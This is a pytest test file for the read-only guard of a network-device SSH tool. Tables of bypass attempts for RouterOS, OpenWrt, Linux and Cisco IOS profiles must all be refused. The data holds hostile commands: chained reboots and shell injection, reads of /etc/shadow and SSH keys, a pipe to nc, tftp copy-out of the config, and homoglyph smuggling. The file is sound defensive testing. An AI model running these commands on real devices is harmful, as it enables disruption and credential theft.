"""The read-only guard of `ap ssh` (collectors/cliguard.py) with the shipped profiles' rules.

Issue 15: the guard of 3854a6b searched patterns in the free text of a command, so a write passed when a
quoted value held ` print `, an abbreviation dodged `file=`, and a shell option it did not know ran.
The tables below are attempts to walk past a read-only guard, per profile; each is one the pattern
guard of 3854a6b let through (the first group of each table) or one that would write, reboot or never
end (the second group). Then what must keep working, and what the rules require (a count, once, --no-pager).
"""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import pytest

from hotspotctl.collectors.cliguard import MAX_COMMAND_CHARS, shell_words
from hotspotctl.collectors.profiles import load_profile, load_profiles

PROFILES = load_profiles()


def refusal(profile: str, command: str) -> str | None:
    ssh = PROFILES.get(profile).ssh
    assert ssh is not None
    return ssh.refusal(command)


ASCII_ONLY = "only printable ASCII is read the same way here and on the device"

# (command, the start of the reason given)
ROUTEROS_REFUSED = [
    # let through by the pattern guard of 3854a6b
    ('/user set admin password=" print "', "`set` is not read-only"),
    ('/system scheduler add name=x start-time=startup on-event="/system reboot" comment=" print "',
     "`add` is not read-only"),
    ("/interface print fi=x", "`fi` (short for `file`) is not read-only"),
    ("/log print file = x", "`file` is not read-only"),
    ("/system script run print", "`script` is not a menu or read-only command in /system allowed here"),
    ("/file remove print", "`file` is not a menu or read-only command in / allowed here"),
    ("/import print", "`import` is not read-only"),
    ("/system reboot print", "`reboot` is not read-only"),
    ('/system reset-configuration no-defaults=yes comment=" print "', "`reset-configuration` is not read-only"),
    ('/interface ethernet set ether1 disabled=yes comment=" print "', "`set` is not read-only"),
    ('/system identity set name=" print "', "`set` is not read-only"),
    ("/system routerboard upgrade print", "`upgrade` is not read-only"),
    ("/interface wireless scan wlan1 print", "`scan` is not read-only"),
    ('/tool fetch url="http://10.0.0.9/x.rsc" dst-path=x.rsc print', "`fetch` is not read-only"),
    (':execute script="/system reboot" print', "`:execute` is a scripting command (`:`), not a read-only one"),
    ("/interface print follow", "`follow` is not read-only"),
    ("/log print fo", "`fo` could be `follow`, `follow-only`, `follow-strict`"),
    ("/interface print interval=1", "`interval` is not read-only"),
    ('/interface ethernet monitor ether1 do="/system reboot" once', "`do` is not read-only"),
    ("/interface print where comment=(/system reboot)", "`( )` evaluates an expression"),
    ("/interface print where comment=$x", "`$` substitutes a variable or a command"),
    ('/interface print where name="a?"', "`?` in a quoted value is the console's help key"),
    ('/interface print where name="a', 'a quote (") is left open'),
    ("/interface print \\", "a backslash outside a quoted value escapes or continues the line"),
    ("/interface print detail\r/system reboot", f"it has a carriage return: {ASCII_ONLY}"),
    ("/interface print detail\n/system reboot", f"it has a line break: {ASCII_ONLY}"),
    ("/interface\tprint", f"it has a tab: {ASCII_ONLY}"),
    ("/interface print\u00a0fi=x", f"it has the character U+00A0 ('\\xa0'): {ASCII_ONLY}"),
    ('/interface print where comment="\u202e"', "it has the character U+202E"),
    ("/interface print " + "detail " * 200, "it is 1,417 characters long (at most 1,024)"),
    ("/system res print", "`res` could be `reset`, `reset-configuration`, `reset-counters`, `reset-counters-all`, "
                          "`resource`"),
    ("PRINT", "`PRINT` is not a menu or read-only command in / allowed here"),
    # refused before too: they write, reboot or run something else
    ("/interface pr fil=x.txt", "`fil` (short for `file`) is not read-only"),
    ("/log print file=log", "`file` is not read-only"),
    ('/interface print where comment="$[/system reboot]"', "`$` in a quoted value substitutes a variable or a command"),
    ("/interface print where name=[/system reboot]", "`[ ]` runs a command inside this one"),
    ("/interface print; /system reboot", "`;` ends the command and starts another"),
    ("/interface print where file=x", "`file` in a where condition could be read as the argument file="),
    ("/interface print as-value do={/system reboot}", "`{ }` is a block of commands"),
    ("/interface .. system reboot", "`reboot` is not read-only"),
    ("/interface print\x00/system reboot", f"it has a NUL: {ASCII_ONLY}"),
    ("/interface export show-sensitive", "`show-sensitive` is not read-only"),
    ("/interface export file=x", "`file` is not read-only"),
]

OPENWRT_REFUSED = [
    # let through by the pattern guard of 3854a6b
    ("logread -p /tmp/x", "`-p` is not an option `logread` allows here (allowed: -e, -l)"),
    ("logread -F /tmp/x", "`-F` is not an option `logread` allows here (allowed: -e, -l)"),
    ("logread -r 10.0.0.9 514", "`-r` is not an option `logread` allows here (allowed: -e, -l)"),
    ("logread -u -r 10.0.0.9 514", "`-u` is not an option `logread` allows here"),
    ("logread -f", "`-f` is not an option `logread` allows here"),
    ("logread -e x -F /tmp/log", "`-F` is not an option `logread` allows here"),
    ("logread -e 'x' -f", "`-f` is not an option `logread` allows here"),
    ("logread -lf", "-l `f`: the value must match '\\d{1,6}'"),
    ("cat /etc/shadow", "`/etc/shadow` is not an operand `cat` allows"),
    ("cat /proc/uptime /etc/config/wireless", "`/etc/config/wireless` is not an operand `cat` allows"),
    ("cat /proc/../etc/shadow", "`/proc/../etc/shadow` is not an operand `cat` allows"),
    ("cat /proc/self/root/etc/shadow", "`/proc/self/root/etc/shadow` is not an operand `cat` allows"),
    ("cat /proc/*/environ", "`*` expands to file names"),
    ("cat /proc/uptime #", "`#` starts a comment"),
    ("cat /proc/uptime \\", "a backslash at the end continues the command on another line"),
    ("cat /proc/uptime\nreboot", f"it has a line break: {ASCII_ONLY}"),
    ("cat /proc/uptime\rreboot", f"it has a carriage return: {ASCII_ONLY}"),
    ("cat /proc/uptime\u037e reboot", "it has the character U+037E"),  # GREEK QUESTION MARK, drawn like ;
    ("cat /proc/uptime" + " /proc/uptime" * 100, "it is 1,316 characters long (at most 1,024)"),
    # refused before too: they write, reboot or run something else
    ("hostname evil", "`hostname` takes no operand here, got `evil`"),
    ("hostname ''", "`hostname` takes no operand here, got ``"),
    ("dmesg -c", "`-c` is not an option `dmesg` allows here (allowed: -r, -s)"),
    ("dmesg -n 1", "`-n` is not an option `dmesg` allows here"),
    ("uptime; reboot", "`;` ends the command and starts another"),
    ("uname -a && reboot", "`&` runs commands in the background or chains them"),
    ("ps | sh", "`|` pipes into another command"),
    ("cat /proc/uptime > /etc/rc.local", "`>` redirects output to a file"),
    ("cat $(reboot)", "`$` expands a variable or a command"),
    ("cat `reboot`", "`` ` `` runs a command inside this one"),
    ('cat "$(reboot)"', "`$` expands a variable or a command, also inside double quotes"),
    ("cat '/proc/uptime'; reboot", "`;` ends the command and starts another"),
    ('logread -e "x" ; reboot', "`;` ends the command and starts another"),
    ("\\reboot", "`reboot` is not a command `ap ssh` runs here"),
    ("ip link set wlan0 down", "`ip link` takes no operand here, got `set`"),
    ("ip -b /tmp/cmds", "`-b` is not an option `ip` allows here"),
    ("ip addr flush dev br-lan", "`ip addr` takes no operand here, got `flush`"),
    ("ip a del 10.0.0.1/24 dev eth0", "`ip a` takes no operand here, got `del`"),
    ("iw dev wlan0 station del 00:11:22:33:44:55", "`iw dev wlan0 station` takes no operand here, got `del`"),
    ("iw dev wlan0 del", "`iw dev wlan0` takes no operand here, got `del`"),
    ("iw phy phy0 set txpower fixed 100", "`iw phy` takes no operand here, got `phy0`"),
    ("ubus call system reboot", "`ubus call system` takes no operand here, got `reboot`"),
    ("ubus call network.interface.wan down", "`ubus call network.interface.wan` takes no operand here, got `down`"),
    ("ping -c 1 -f 10.0.0.1", "`-f` is not an option `ping` allows here"),
    ("ifconfig wlan0 down", "`ifconfig` takes at most 1 operand(s), got 2"),
]

LINUX_REFUSED = [
    # let through by the pattern guard of 3854a6b
    ("hostname evil", "`hostname` takes no operand here, got `evil`"),
    ("hostname -F /etc/x", "`-F` is not an option `hostname` allows here (allowed: -A, -I, -d, -f, -i, -s)"),
    ("hostname -b evil", "`-b` is not an option `hostname` allows here"),
    ("free -s 1", "`-s` is not an option `free` allows here"),
    ("cat /etc/shadow", "`/etc/shadow` is not an operand `cat` allows"),
    ("journalctl -n 5", "`journalctl` needs --no-pager here"),
    ("cat !!", "`!` expands the shell's history"),
    ('cat "!!"', "`!` expands the shell's history, also inside double quotes"),
    ("uptime -p {reboot,}", "`{ }` expands or groups"),
    ("cat ~root/.ssh/id_rsa", "`~` expands to a home folder"),
    ("uname -a\treboot", f"it has a tab: {ASCII_ONLY}"),
    # refused before too: they write, reboot or run something else
    ("journalctl --vacuum-time=1s --no-pager", "`--vacuum-time` is not an option `journalctl` allows here"),
    ("journalctl --rot --no-pager", "`--rot` is not an option `journalctl` allows here"),
    ("ss -K dst 10.0.0.1", "`-K` is not an option `ss` allows here"),
    ("ss -D /tmp/x", "`-D` is not an option `ss` allows here"),
    ("ethtool -s eth0 speed 10", "`-s` is not an option `ethtool` allows here"),
    ("ethtool -K eth0 rx off", "`-K` is not an option `ethtool` allows here"),
    ("dmesg -C", "`-C` is not an option `dmesg` allows here"),
    ("dmesg -T --clear", "`--clear` is not an option `dmesg` allows here"),
    ("ifconfig eth0 down", "`ifconfig` takes at most 1 operand(s), got 2"),
    ("ps -p 1 && reboot", "`&` runs commands in the background or chains them"),
    ("lscpu > /tmp/x", "`>` redirects output to a file"),
    ("touch /tmp/x", "`touch` is not a command `ap ssh` runs here"),
    ("ip netns exec x reboot", "`ip` takes no operand here, got `netns`"),
    ("ip link set eth0 down", "`ip link` takes no operand here, got `set`"),
    ("ss -tunlp | nc 10.0.0.9 9", "`|` pipes into another command"),
]

IOS_REFUSED = [
    # let through by the pattern guard of 3854a6b
    ("show ?", "`?` is IOS's help key"),
    ("show version\rreload", f"it has a carriage return: {ASCII_ONLY}"),
    ("show version\nreload", f"it has a line break: {ASCII_ONLY}"),
    ("show version\x00reload", f"it has a NUL: {ASCII_ONLY}"),
    ("sh run | i x\u2502 redirect flash:x", "it has the character U+2502"),  # a box-drawing bar, drawn like |
    ("show version | include " + "x" * 1100, "it is 1,123 characters long (at most 1,024)"),
    ("ping ip", "`ip` is not an operand `ping` allows"),  # IOS then asks for the target: the session hangs
    ("show in", "`in` could be `interfaces`, `inventory`"),
    ("show version | section", "`| section` needs a regular expression"),
    ("show tech-support", "`tech-support` is not a show subcommand allowed here"),
    # refused before too: they write, reboot or run something else
    ("reload", "`reload` is not read-only"),
    ("reload in 5", "`reload` is not read-only"),
    ("rel", "`rel` could be `release`, `reload`"),
    ("conf t", "`conf` (short for `configure`) is not read-only"),
    ("configure terminal", "`configure` is not read-only"),
    ("copy running-config startup-config", "`copy` is not read-only"),
    ("copy run tftp://10.0.0.9/x", "`copy` is not read-only"),
    ("write memory", "`write` is not read-only"),
    ("wr", "`wr` (short for `write`) is not read-only"),
    ("erase startup-config", "`erase` is not read-only"),
    ("delete flash:config.txt", "`delete` is not read-only"),
    ("debug all", "`debug` is not read-only"),
    ("clear counters", "`clear` is not read-only"),
    ("send * hello", "`send` is not read-only"),
    ("dot11 dot11radio0 carrier busy", "`dot11` is not read-only"),
    ("show run | redirect flash:x", "`redirect` is not read-only"),
    ("show run | red flash:x", "`red` (short for `redirect`) is not read-only"),
    ("show run | tee flash:x", "`tee` is not read-only"),
    ("show run | append flash:x", "`append` is not read-only"),
    ("show run | format flash:x.odm", "`format` is not read-only"),
    ("show run | i x | redirect tftp://10.0.0.9/c", "a second `|` filter (only one, and never redirect, tee or append)"),
    ("show run > flash:x", "`>` can redirect output"),
]

REFUSED = ([("mikrotik_routeros", *case) for case in ROUTEROS_REFUSED] + [("openwrt", *case) for case in OPENWRT_REFUSED]
           + [("linux", *case) for case in LINUX_REFUSED] + [("cisco_aironet", *case) for case in IOS_REFUSED])


@pytest.mark.parametrize(("profile", "command", "said"), REFUSED, ids=[f"{p}:{c[:50]!r}" for p, c, _ in REFUSED])
def test_a_bypass_is_refused_with_the_reason(profile: str, command: str, said: str) -> None:
    reason = refusal(profile, command)
    assert reason is not None, f"{profile} let {command!r} through"
    assert reason.startswith(said), reason


ALLOWED = {
    "mikrotik_routeros": [
        "/system resource print", "/interface print", "/interface print stats", "interface print detail without-paging",
        "/ip/address/print", "/ip address pr", "/int pr", "/interface wireless registration-table print count-only",
        "/interface/wireless/registration-table/print", "/interface ethernet monitor ether1 once",
        "/interface monitor-traffic ether1 once", '/ip route print where dst-address="0.0.0.0/0"',
        '/interface print where running and name~"^wlan"', "/interface print where !disabled",
        '/log print where topics~"wireless"', "/log print without-paging", "/ping 10.0.0.1 count=3",
        "ping 8.8.8.8 count=1", "/system identity get name", "/interface export hide-sensitive terse",
        "/ip hotspot active print count-only", "/interface .. system resource print", "/interface print proplist=name,mtu",
        '/user print where comment=" print "', "/system routerboard print", '/interface print where comment="a\\"b\\$c\\?"',
    ],
    "openwrt": [
        "cat /proc/uptime", "cat /proc/net/dev", "cat /sys/class/net/eth0/speed", "cat /etc/openwrt_release",
        "cat /proc/uptime /proc/loadavg", "iw dev wlan0 station dump", "iw dev phy0-ap0 info", "logread -l 50",
        "logread -e hostapd -l 20", "logread -l20", "logread -e 'sta.*auth; x'", "dmesg", "dmesg -r",
        "ip -s link show eth0", "ip a", "ip route", "ifconfig", "ifconfig br-lan", "ubus call system board",
        "ubus call network.interface.wan status", "ubus list", "ping -c 3 8.8.8.8", "traceroute 8.8.8.8", "uptime",
        "uname -a", "free", "df -h", "ps w", "hostname", "\"cat\" '/proc/uptime'", "c\\at /proc/uptime",
    ],
    "linux": [
        "uname -s", "hostname", "hostname -f", "journalctl -n 50 -u hostapd --no-pager", "journalctl --no-pager -b -k",
        "ss -tunlp", "ethtool -S eth0", "ethtool eth0", "dmesg -rT", "ps aux", "ps -ef", "ps -o pid,comm -p 1", "lscpu",
        "uptime -p", "free -m", "ip -j addr show dev eth0", "iw list", "cat /proc/net/dev", "cat /etc/os-release",
        "ping -c 1 -W 2 10.0.0.1", "df -h /",
    ],
    "cisco_aironet": [
        "show version", "sh ver", "sho int", "SHOW VERSION", "show interfaces GigabitEthernet0", "show interfaces",
        "show dot11 associations", "show ip interface brief", "show version | include uptime", "sh run | i hostname",
        "show logging | begin Jan", "show run | section interface", "show run | in a|b", "show version|include IOS",
        "show interfaces | count packets", "ping 10.0.0.1", "traceroute 10.0.0.1",
    ],
}
ALLOWED_CASES = [(profile, command) for profile, commands in ALLOWED.items() for command in commands]


@pytest.mark.parametrize(("profile", "command"), ALLOWED_CASES, ids=[f"{p}:{c!r}" for p, c in ALLOWED_CASES])
def test_read_only_commands_pass(profile: str, command: str) -> None:
    assert refusal(profile, command) is None


# What appended to a read-only command makes it do more, by dialect.
SUFFIXES = {
    "routeros": ["; /system reboot", " file=x", " fi=x", ' comment="$[/system reboot]"', " \\", "\r/system reboot",
                 "\n/system reboot", " [/system reboot]", " do={/system reboot}"],
    "shell": ["; reboot", " && reboot", " || reboot", " | sh", " > /etc/passwd", " $(reboot)", " `reboot`", "\nreboot",
              "\rreboot", " & reboot", " <(reboot)", " #", " \\"],
    "ios": [" | redirect flash:x", " | tee flash:x", " | append flash:x", " > flash:x", "\rreload", "\nreload", " ?"],
}
APPENDED = [(profile, command + suffix) for profile, command in ALLOWED_CASES
            for suffix in SUFFIXES[PROFILES.get(profile).ssh.read_only.dialect]]


@pytest.mark.parametrize(("profile", "command"), APPENDED, ids=[f"{p}:{c!r}" for p, c in APPENDED])
def test_nothing_appended_to_a_read_only_command_rides_along(profile: str, command: str) -> None:
    """Every allowed command above, with each way of doing more appended: refused."""
    assert refusal(profile, command) is not None


@pytest.mark.parametrize(("profile", "command", "said"), [
    ("mikrotik_routeros", "/interface ethernet monitor ether1", "/interface ethernet monitor needs once here"),
    ("mikrotik_routeros", "/interface monitor-traffic ether1", "/interface monitor-traffic needs once here"),
    ("mikrotik_routeros", "/ping 10.0.0.1", "/ping needs count here"),
    ("mikrotik_routeros", "/ping 10.0.0.1 count=10", "count=`10`: the value must match '[1-9]'"),
    ("mikrotik_routeros", "/interface export", "/interface export needs hide-sensitive here"),
    ("openwrt", "ping 10.0.0.1", "`ping` needs -c here"),
    ("linux", "journalctl -f --no-pager", "`-f` is not an option `journalctl` allows here"),
    ("linux", "dmesg -w", "`-w` is not an option `dmesg` allows here"),
    ("cisco_aironet", "ping", "`ping` needs 1 operand(s), got 0"),
])
def test_a_command_needs_what_its_rules_require(profile: str, command: str, said: str) -> None:
    """What would not end by itself (a ping without a count, a monitor without once, a follow), or would show
    secrets (RouterOS 6's export without hide-sensitive), or would ask a question (IOS's ping without a target)."""
    reason = refusal(profile, command)
    assert reason is not None and reason.startswith(said), reason


def test_the_profiles_own_polling_commands_pass_except_the_routeros_script() -> None:
    """What the poller itself sends is read-only; RouterOS's interface script substitutes commands, so it is not."""
    names: dict[str, Any] = {"uplink": {"mikrotik_routeros": "ether1", "cisco_aironet": "GigabitEthernet0"},
                             "radio": "wlan0"}
    checked = 0
    for profile in PROFILES:
        ssh = profile.ssh
        if ssh is None:
            continue
        for reading in (ssh.uptime, ssh.interfaces, ssh.link_speed, ssh.clients):
            if reading is None:
                continue
            command = (reading.command.replace("{uplink}", names["uplink"].get(profile.name, "eth0"))
                       .replace("{radio}", names["radio"]))
            reason = ssh.refusal(command)
            if profile.name == "mikrotik_routeros" and command.startswith(":foreach"):
                assert reason == "`[ ]` runs a command inside this one"
            else:
                assert reason is None, f"{profile.name}: {command}: {reason}"
            checked += 1
    assert checked == 16  # 4 profiles with an ssh section, 4 readings each


def test_shell_words_unquote_as_the_shell_does() -> None:
    assert shell_words("""logread -e 'a b'  "c\\"d" e\\ f ''""") == ["logread", "-e", "a b", 'c"d', "e f", ""]
    assert shell_words("c\\at '/proc/up'time") == ["cat", "/proc/uptime"]


def test_the_length_limit_is_exact() -> None:
    under = "cat /proc/uptime" + " " * (MAX_COMMAND_CHARS - len("cat /proc/uptime"))
    assert refusal("openwrt", under) is None
    assert refusal("openwrt", under + " ") == f"it is {MAX_COMMAND_CHARS + 1:,} characters long (at most 1,024)"


def test_an_ssh_profile_without_read_only_rules_refuses_everything(tmp_path: Path) -> None:
    path = tmp_path / "x.yaml"
    path.write_text("name: x\nssh: {device_type: linux, interfaces: {command: cat /proc/net/dev, "
                    "regex: '(?P<name>a)(?P<in_octets>1)(?P<out_octets>2)'}}\n", encoding="utf-8")
    ssh = load_profile(path).ssh
    assert ssh is not None and ssh.read_only is None
    assert ssh.refusal("cat /proc/uptime") == "the profile lists no read-only commands (ssh.read_only)"


def test_every_case_is_counted_once() -> None:
    """The tables hold no duplicates (a copied row would hide a missing case)."""
    for table in (ROUTEROS_REFUSED, OPENWRT_REFUSED, LINUX_REFUSED, IOS_REFUSED):
        commands = [command for command, _ in table]
        assert len(commands) == len(set(commands))
    for profile, commands in ALLOWED.items():
        assert len(commands) == len(set(commands)), profile
    assert not set(itertools.chain.from_iterable(ALLOWED.values())) & {c for _, c, _ in REFUSED}
